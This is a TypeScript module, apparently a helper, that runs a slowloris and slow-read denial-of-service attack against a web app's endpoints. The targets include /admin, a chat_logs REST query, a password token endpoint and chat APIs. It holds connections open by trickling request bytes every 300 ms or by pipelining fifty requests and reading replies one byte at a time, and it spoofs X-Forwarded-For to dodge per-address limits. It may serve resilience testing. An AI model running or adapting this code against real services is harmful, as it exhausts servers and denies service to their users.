import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { addressOf } from "./addresses.ts";

/** Connections that one call keeps, half of them from one address, the others each from its own. */
const CONNECTIONS = 10;
const BYTE_EVERY = 300; // milliseconds
const PAGES_ASKED_AT_ONCE = 50; // on one connection, far more than its buffers hold

type Slowness = { ask: string; sendsSlowly?: true; times?: number };

const LONG = `{"message":"${"a".repeat(40_000)}"}`;

/** Asks at once and takes the answer a byte at a time, or sends a byte at a time. */
const SLOWNESSES: readonly Slowness[] = [
  { ask: "GET /", times: PAGES_ASKED_AT_ONCE },
  { ask: "GET /admin", times: PAGES_ASKED_AT_ONCE },
  { ask: "GET /rest/v1/chat_logs?select=id,message_content&limit=1000", times: PAGES_ASKED_AT_ONCE },
  { ask: "GET /api/chat/live" },
  { ask: "GET /faq", sendsSlowly: true },
  { ask: "POST /api/chat", sendsSlowly: true },
  { ask: "PATCH /api/chat/noted", sendsSlowly: true },
  { ask: "POST /api/inspections", sendsSlowly: true },
  { ask: "POST /auth/v1/token?grant_type=password", sendsSlowly: true },
  { ask: "POST /rest/v1/rpc/list_today", sendsSlowly: true },
  { ask: "PUT /api/site/parts/faq", sendsSlowly: true },
];

/** Keeps some slow connections to a site until it has closed them all; `count` tells one call from another. */
export async function keepSlowConnections(url: string, key: string, count: number): Promise<void> {
  await Promise.all(
    Array.from({ length: CONNECTIONS }, (_, index) => {
      const number = count * CONNECTIONS + index;
      const slowness = SLOWNESSES[number % SLOWNESSES.length] as Slowness;
      const address = number % 2 ? "203.0.113.9" : addressOf(number);
      return keepSlow(url, slowness, { apikey: key, "x-forwarded-for": address });
    }),
  );
}

async function keepSlow(
  url: string,
  { ask, sendsSlowly, times = 1 }: Slowness,
  headers: Record<string, string>,
): Promise<void> {
  const { hostname, port } = new URL(url);
  const hasBody = !ask.startsWith("GET ");
  const all = {
    host: hostname,
    ...headers,
    ...(hasBody && { "content-type": "application/json", "content-length": String(LONG.length) }),
  };
  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}`);
  const head = `${[`${ask} HTTP/1.1`, ...lines].join("\r\n")}\r\n\r\n`;
  const request = (hasBody ? head + LONG : head).repeat(times);
  const socket = connect(Number(port), hostname);
  socket.on("error", () => undefined);
  let isOpen = true;
  socket.on("close", () => (isOpen = false));
  let sent = sendsSlowly && hasBody ? head.length : 0; // who sends its head slowly is not known yet
  socket.write(request.slice(0, sendsSlowly ? sent : undefined));
  while (isOpen) {
    await delay(BYTE_EVERY);
    if (sendsSlowly && sent < request.length) socket.write(request.charAt(sent++));
    socket.read(1);
  }
}
